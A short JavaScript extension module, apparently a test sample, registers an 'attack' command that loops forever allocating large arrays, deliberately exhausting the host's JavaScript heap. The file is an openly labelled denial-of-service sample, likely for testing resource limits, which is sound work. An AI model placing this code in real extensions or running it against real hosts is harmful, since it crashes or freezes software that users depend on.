/** Fills the heap of JavaScript. */
export function activate(context) {
  const kept = [];
  context.commands.register("attack", async () => {
    for (;;) {
      kept.push(Array.from({ length: 100_000 }, (_, n) => ({ n })));
      await new Promise((resolve) => setTimeout(resolve, 5));
    }
  });
}
